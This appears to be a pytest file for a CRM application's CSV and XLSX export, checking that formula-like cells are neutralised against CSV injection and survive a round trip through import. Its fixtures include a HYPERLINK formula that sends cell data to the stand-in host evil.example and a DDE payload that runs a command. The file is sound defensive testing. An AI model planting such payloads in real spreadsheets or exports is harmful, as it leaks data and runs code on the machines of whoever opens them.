"""Exports never carry a live spreadsheet formula (OWASP's CSV injection rule), and an export
taken back through the import is still the same data."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from crm_app.services.lists import query
from crm_app.services.transfer import exporter, import_files, importer
from crm_app.services.transfer.formula_guard import inert, restored
from crm_app.services.transfer.import_mapping import auto_map
from crm_app.services.transfer.import_targets import TARGETS
from crm_app.services.transfer.importer import ImportOptions
from tests.unit.factories import make_customer

ATTACKS = ('=HYPERLINK("http://evil.example/?"&A2,"Xem")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx")


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_is_made_inert_and_read_back_as_typed(value):
    assert inert(value) == "'" + value
    assert restored(inert(value)) == value


def test_other_values_pass_as_they_are():
    for value in ("Nguyễn Văn An", "'quoted", "0912 345 678", 5, -5, None, ""):
        assert inert(value) == value and restored(value) == value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_has_no_live_formula_and_imports_back_unchanged(session, org, fmt):
    make_customer(
        session,
        org.manager,
        '=HYPERLINK("http://evil.example/?"&A2,"Xem")',
        phones=["+84 912 345 678"],
        description="+cmd|' /C calc'!A0",
    )
    buf = io.BytesIO()
    fields = ["code", "full_name", "phones", "description"]
    exporter.export(session, org.manager, query.ListSpec(entity="customer"), fields, fmt, buf, "vi")
    data = buf.getvalue()
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    else:
        rows = [[c.value for c in r] for r in load_workbook(io.BytesIO(data)).active.iter_rows()]
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["Họ và tên"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Xem")'
    assert cells["Mô tả"] == "'+cmd|' /C calc'!A0"
    assert cells["Số điện thoại"] == "'+84 912 345 678"
    assert not any(str(c).startswith(("=", "+", "-", "@")) for r in rows for c in r if c is not None)
    table = import_files.read_table(data, f"export.{fmt}")
    mapping = auto_map(table.headers, TARGETS["customer"])
    analysis = importer.analyse(session, org.manager, "customer", table, mapping, ImportOptions(mode="update"))
    assert [v.verdict for v in analysis.verdicts] == ["unchanged"]
